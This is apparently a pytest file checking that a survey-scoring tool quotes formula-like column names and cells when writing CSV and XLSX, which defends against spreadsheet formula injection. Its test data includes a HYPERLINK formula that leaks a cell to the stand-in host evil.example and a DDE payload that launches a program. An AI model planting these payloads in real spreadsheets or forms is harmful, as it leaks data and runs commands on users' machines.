"""`pulse score --out` writes nothing a spreadsheet would run: column names and cells of the input that look
like formulas come out as text, after a quote, in CSV and XLSX (issue 17, "Output")."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

# The shape of a Google Forms CSV download: "Timestamp" then one column per question, named by the question's
# text as the form's author typed it (here a formula), and answers a spreadsheet would run (OWASP's "CSV
# Injection" starting characters: = + - @, tab, carriage return).
RISKY_ANSWERS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a refund")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
]
QUESTION = "=1+1"


def survey_download(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Timestamp", QUESTION, "What could we do better?"])
        for index, answer in enumerate(RISKY_ANSWERS, start=1):
            writer.writerow(
                [f"2025/04/0{index} 1:14:16 PM GMT", answer, f"The staff were lovely, visit {index}."]
            )
    return path


def written_rows(path: Path) -> list[list[object]]:
    """The rows of a written CSV or XLSX; for XLSX, asserting first that no cell is a formula."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as handle:
            return [list(row) for row in csv.reader(handle)]
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_score__out_neutralises_formula_like_column_names_and_cells(  # type: ignore[no-untyped-def]
    pulse, tmp_path: Path, suffix: str
) -> None:
    source = survey_download(tmp_path / "Customer survey (Responses).csv")
    out = tmp_path / f"scored{suffix}"
    pulse("db", "upgrade")
    result = pulse("score", str(source), "--text-column", "What could we do better?", "--out", str(out))
    assert result.exit_code == 0, result.output
    header, *rows = written_rows(out)
    assert header[:3] == ["Timestamp", "'=1+1", "What could we do better?"]
    answers = [str(row[1]) for row in rows]
    # each shows as typed after the quote; "+1" is a plain number, kept as it is (pulse.tables.csv_safe); XLSX
    # (XML) reads a carriage return as a line feed
    typed = [answer.replace("\r", "\n") if suffix == ".xlsx" else answer for answer in RISKY_ANSWERS]
    assert answers == [text if text == "+1" else "'" + text for text in typed]
